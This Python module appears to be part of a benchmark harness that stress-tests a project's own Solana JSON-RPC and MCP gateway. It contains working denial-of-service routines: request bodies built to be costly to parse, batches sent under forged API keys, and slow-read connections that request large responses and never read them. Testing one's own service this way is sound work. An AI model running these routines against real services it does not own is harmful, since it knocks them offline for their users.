"""Attackers of the HTTP doors: refused bodies that are dear to parse, strangers' batches, and answers never read."""

import asyncio
import base64
import itertools
import json
import os
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from typing import Any, Final

import base58
from solders.pubkey import Pubkey

from actors.addresses import TOKEN_2022_PROGRAM
from bench.attackers.target import Attack, ask_for_ever, post

_CONNECTIONS: Final = 16
_STRANGERS: Final = 200
_UNREAD: Final = 400
_BATCH: Final = 100
_BODY_BYTES_MAX: Final = 262_144  # gateway.body_bytes_max.
_TRANSACTION_BYTES: Final = 1_232
_UPGRADEABLE_LOADER: Final = "BPFLoaderUpgradeab1e11111111111111111111111"
_AGAIN_SECONDS: Final = 0.5  # Pause between two requests on a connection that reads nothing.


def made_up_key() -> str:
    """Make a key in the form of this service that no account has."""
    return "srpc_live_" + base64.urlsafe_b64encode(os.urandom(32)).decode().rstrip("=")


def _call(method: str, *params: Any) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": 1, "method": method, "params": list(params)}


def _batch(item: str) -> bytes:
    return ("[" + ",".join([item] * _BATCH) + "]").encode()


def _bracket_items() -> bytes:
    return _batch('{"jsonrpc":"2.0","id":1,"method":"getSlot","params":[' + ",".join(["[]"] * 850) + "]}")


def _brackets() -> bytes:
    return b'{"jsonrpc":"2.0","id":1,"method":"getSlot","params":[' + b"[]," * 86_900 + b"[]]}"


def _twins() -> bytes:
    """Items that each have a key twice, behind long strings that a search has to pass."""
    item = json.dumps({**_call("getSlot"), "x": "y" * 2_400})
    return _batch(item[:-1] + ',"id":1}')


def _transactions() -> bytes:
    text = base58.b58encode(b"\xff" * _TRANSACTION_BYTES).decode()
    return _batch(json.dumps(_call("sendTransaction", text, {"encoding": "base58"})))


BODIES: Final[Mapping[str, Callable[[], bytes]]] = {
    "bracket items": _bracket_items,
    "brackets": _brackets,
    "twins": _twins,
    "transactions": _transactions,
}


async def refused_bodies(attack: Attack, names: tuple[str, ...] = tuple(BODIES)) -> None:
    """Bodies that are refused after much work: without a credential, with a made-up key, and with a good one."""
    made = [BODIES[name]() for name in names]
    assert all(len(body) <= _BODY_BYTES_MAX for body in made), [len(body) for body in made]
    keys = (None, made_up_key(), attack.target.keys[0])
    requests = itertools.cycle([post("/", body, key) for body in made for key in keys])
    await attack.repeat(_CONNECTIONS, partial(ask_for_ever, attack, lambda: next(requests)))


async def strangers_batches(attack: Attack) -> None:
    """Batches of 100 calls, each under another key that nobody has, on 200 connections."""
    body = _batch(json.dumps(_call("getSlot")))
    await attack.repeat(_STRANGERS, partial(ask_for_ever, attack, lambda: post("/", body, made_up_key())))


async def unread_mcp_lists(attack: Attack) -> None:
    """Batches of 100 `tools/list` without a credential, whose answers are never read, on 400 connections."""
    items = [{"jsonrpc": "2.0", "id": number, "method": "tools/list"} for number in range(_BATCH)]
    await _never_read(attack, _UNREAD, itertools.repeat(post("/mcp", json.dumps(items).encode())))


async def unread_answers(attack: Attack, large_accounts: int = 5, per_second: int = 3) -> None:
    """Connections that each buy an answer of so many times 0.8 MB and read nothing of it.

    More of them would rather starve the embedded node, which the victim asks too: it takes 20 ms a megabyte.
    """
    accounts = [_large_account()] * large_accounts
    request = post(
        "/", json.dumps(_call("getMultipleAccounts", accounts, {"encoding": "base64"})).encode(), attack.target.keys[0]
    )
    writers = []
    try:
        while attack.left_seconds:
            _, writer = await attack.target.connect()
            writers.append(writer)
            writer.transport.pause_reading()  # type: ignore[attr-defined]  # Of a connection, which has it.
            writer.write(request)
            attack.seen["sent"] += 1
            await asyncio.sleep(min(attack.left_seconds, 1 / per_second))
    finally:
        for writer in writers:
            writer.transport.abort()


def _large_account() -> str:
    """Return the address at which the chain stores a large program."""
    program, loader = Pubkey.from_string(TOKEN_2022_PROGRAM), Pubkey.from_string(_UPGRADEABLE_LOADER)
    return str(Pubkey.find_program_address([bytes(program)], loader)[0])


async def _never_read(attack: Attack, connections: int, requests: Iterator[bytes]) -> None:
    async def once() -> None:
        _, writer = await attack.target.connect()
        writer.transport.pause_reading()  # type: ignore[attr-defined]  # Of a connection, which has it.
        try:
            while attack.left_seconds:
                writer.write(next(requests))
                await writer.drain()
                attack.seen["sent"] += 1
                await asyncio.sleep(_AGAIN_SECONDS)
        finally:
            writer.transport.abort()

    await attack.repeat(connections, once)
